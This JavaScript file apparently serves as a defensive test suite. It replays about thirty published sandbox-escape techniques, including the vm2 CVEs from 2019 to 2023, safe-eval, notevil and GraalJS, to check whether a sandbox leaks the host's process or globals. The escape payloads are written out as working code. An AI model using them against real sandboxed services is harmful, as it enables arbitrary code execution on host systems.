// Attack: what was published against vm2 and other sandboxes of JavaScript, each as its advisory shows it: the code that then
// ran `process` of the host, here asked for whatever is not the suite's own. In Node's words the prize was child_process.
const { runInNewContext } = require('vm');
const prize = (global) => (global === undefined || global === null ? undefined
  : leak(global) ?? [ 'Java', 'Packages', 'Polyglot', 'load', 'Graal' ].find((name) => name in Object(global)));
const advisories = {
  'CVE-2019-10761, an error by too deep a stack in the host': () => {
    const f = Buffer.prototype.write;
    const ft = { length: 10, utf8Write() {} };

    function r(i) { let x = 0; try { x = r(i); } catch { /* at the end */ } if (typeof x !== 'number') return x; if (x !== i) return x + 1; try { f.call(ft); } catch (error) { return error; } return null; }
    let i = 1;

    for (let tries = 0; tries < 3; tries++) {
      try { i = r(i); } catch { break; }
      if (typeof i !== 'number') break;
    }

    return prize(i?.constructor?.constructor('return this')());
  },
  'CVE-2021-23449, import() rejects with an error of the host': () => import('x').catch((error) => prize(error.constructor.constructor('return this')())),
  'CVE-2021-23555, prepareStackTrace set by an error of the host': () => {
    let got;

    Error.prepareStackTrace = (error, sites) => { got = sites.map((one) => one.getThis?.()); return ''; };
    try { require('fs').readFileSync('/none'); } catch (error) { String(error.stack); } finally { Error.prepareStackTrace = undefined; }

    return (got ?? []).map(prize).find(Boolean);
  },
  'CVE-2022-25893, a setter of WeakMap.prototype': () => { const seen = recorder(); return patched(WeakMap.prototype, 'set', function (...args) { seen.see(this, ...args); return this; }, () => { const error = new Error(); error.name = Symbol(); try { require('util').inspect(error); error.stack; } catch { /* refused */ } return seen.verdict(); }); },
  'CVE-2022-36067, Error replaced by a thing with prepareStackTrace': () => patched(globalThis, 'Error', { prepareStackTrace: (error, sites) => sites }, () => { try { null.x; } catch (error) { return prize(error.stack?.[0]?.getThis?.()); } }),
  'CVE-2023-29017, prepareStackTrace in a rejection of an async function': () => { Error.prepareStackTrace = (error, sites) => { sites.forEach((one) => { const found = prize(one.getThis?.()); if (found) throw found; }); return 'x'; }; const done = (async function a() { const b = new Error(); b.name = Symbol(); await b.stack; })().catch((error) => (typeof error === 'string' ? error : leak(error))); Error.prepareStackTrace = undefined; return done; },
  'CVE-2023-29199, an error whose prototype is a proxy': () => { const error = new Error(); Object.setPrototypeOf(error, new Proxy({}, { getPrototypeOf(target) { try { (function deep() { deep(); })(); } catch (inner) { return prize(inner.constructor.constructor('return this')()); } return null; } })); try { return prize(error instanceof Error); } catch (inner) { return leak(inner); } },
  'CVE-2023-30547, a getPrototypeOf trap of what is thrown': () => { let found; try { throw new Proxy({}, { getPrototypeOf() { (function stack() { stack(); })(); } }); } catch (error) { try { require('util').inspect(error); error instanceof Error; } catch (inner) { found = prize(inner.constructor.constructor('return this')()); } } return found; },
  'CVE-2023-32313, inspect of the console replaced': () => { const { inspect } = require('util'); return patched(inspect, 'custom', 'x', () => { console.log({ [inspect.custom]: (depth, options, found) => prize(found) }); }); },
  'CVE-2023-32314, a proxy of Function.prototype.call\'s arguments': () => { const seen = recorder(); const error = new Error(); error.name = { toString: new Proxy(() => '', { apply(target, self, args) { seen.see(self, args, ...args); return prize(args.constructor.constructor('return this')()) ?? ''; } }) }; try { const text = error.stack; return seen.verdict() ?? (prize(text) || undefined); } catch (inner) { return leak(inner); } },
  'CVE-2023-37466, a species of a promise of the host': () => { const seen = recorder(); const promise = (async () => { (function stack() { stack(); })(); })(); promise.constructor = { [Symbol.species]: class { constructor(executor) { executor((value) => seen.see(value), (error) => seen.see(error, error?.constructor?.constructor('return this')())); } } }; promise.then(); return new Promise((resolve) => setTimeout(resolve, 3)).then(() => seen.verdict()); },
  'CVE-2023-37903, a custom inspection gets the host\'s inspect': () => { const seen = recorder(); const object = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => { seen.see(depth, options, inspect, ...Object.values(options)); const found = reach(inspect) ?? Object.values(options).map(reach).find(Boolean); if (found) seen.see({ loadModule: found }); return 'x'; } }; require('util').inspect(object); console.log(object); require('util').format('%o', object); try { require('assert').strictEqual(object, 1); } catch { /* differs */ } return seen.verdict(); },
  'GHSA-xj72, a species of WebAssembly': () => globalThis.WebAssembly && prize(WebAssembly),
  'vm2 issue 138, arguments.callee.caller in a timer': () => new Promise((resolve) => setTimeout(new Function('done', 'return function () { try { done(arguments.callee.caller) } catch { done() } }')((caller) => resolve(caller && reach(caller))), 1)),
  'vm2 issue 177, a proxy of a constructor': () => prize(new (new Proxy(Object, { construct: (target, args, newTarget) => newTarget.constructor.constructor('return this')() }))()) === undefined ? undefined : 'the host',
  'vm2 issue 179, a string that is no string': () => { const seen = recorder(); const text = { [Symbol.toPrimitive]() { seen.see(this, new Error().stack); return 'x'; } }; try { Buffer.from(text); require('path').join(text); } catch (error) { seen.see(error); } return seen.verdict(); },
  'vm2 issue 184, a replaced Object.prototype.__defineGetter__': () => { const seen = recorder(); return patched(Object.prototype, '__defineGetter__', function (...args) { seen.see(this, ...args); }, () => { require('repl'); require('domain'); return seen.verdict(); }); },
  'vm2 issue 185, Symbol.hasInstance': () => { const seen = recorder(); return patched(Function.prototype, Symbol.hasInstance, function (value) { seen.see(this, value); return true; }, () => { try { Buffer.from('x'); new URL('http://x/'); require('stream').isReadable?.({}); } catch { /* misled */ } return seen.verdict(); }); },
  'vm2 issue 186, an iterator of the host\'s arrays': () => { const seen = recorder(); const original = Array.prototype[Symbol.iterator]; return patched(Array.prototype, Symbol.iterator, function () { seen.see(this); for (let i = 0; i < this.length; i++) seen.see(this[i]); return Reflect.apply(original, this, []); }, () => { try { setTimeout(() => {}, 1, 2); process.nextTick(() => {}, 1); performance.now(); dispatch; require('fs').existsSync('/none'); require('zlib').deflateSync('y'); crypto.randomUUID(); } catch { /* it may fail */ } return seen.verdict(); }); },
  'vm2 issue 187, a getter for __proto__': () => { const seen = recorder(); return patched(Object.prototype, '__proto__', { get() { seen.see(this); return null; }, set(value) { seen.see(this, value); } }, () => { try { require('fs').statSync('/'); require('util').inspect({}); require('vm').createContext({}); } catch { /* misled */ } return seen.verdict(); }); },
  'vm2 issue 241, eval of a context': () => runInNewContext('(0, eval)("this")') !== globalThis ? prize(runInNewContext('(0, eval)("this")')) : undefined,
  'vm2 issue 268, Promise.prototype.then of an async function': () => { const seen = recorder(); const { then } = Promise.prototype; return patched(Promise.prototype, 'then', function (...args) { seen.see(this, ...args); return Reflect.apply(then, this, args); }, () => { (async () => { await null; })(); require('fs/promises').stat('/').catch(() => {}); require('timers/promises').setImmediate(); return seen.verdict(); }); },
  'safe-eval, a function out of a getter\'s name': () => { const { get } = Object.getOwnPropertyDescriptor({ get x() { return 1; } }, 'x'); return prize(get.constructor('return this')()); },
  'notevil, a throw with the constructor': () => { try { throw Function; } catch (made) { return prize(made('return this')()); } },
  'static-eval, a template\'s constructor': () => prize(((strings) => strings.constructor.constructor('return this')())`x`),
  'realms-shim, a spread of an iterator that throws': () => { try { Reflect.apply(() => {}, null, [ ...{ [Symbol.iterator]() { throw { constructor: { constructor: () => () => globalThis } }; } } ]); } catch (error) { return leak(error); } },
  'Nashorn, engine by a constructor of an array': () => { try { return prize([].constructor.constructor('return typeof engine !== "undefined" ? engine : undefined')()); } catch (error) { return leak(error); } },
  'Rhino, getClass of an object': () => [ {}, '', 1, [], () => {}, dispatch, require, Buffer.alloc(1) ].find((one) => one.getClass !== undefined || one.class !== undefined) && 'getClass is there',
  'GraalJS, members that only host objects have': () => [ dispatch, require, process, module, require('fs').statSync, crypto ].find((one) => 'getMember' in one || 'execute' in one || 'newInstance' in one || 'wait' in one || 'notify' in one || 'hashCode' in one) && 'there is one'
};

for (const name in advisories) attempt(name, advisories[name]);
control('a prize would be seen', () => prize({ Java: {} }));
control('a custom inspection is called', () => { let called; require('util').inspect({ [Symbol.for('nodejs.util.inspect.custom')]: () => { called = 'called'; return ''; } }); return called; });
tellAll();
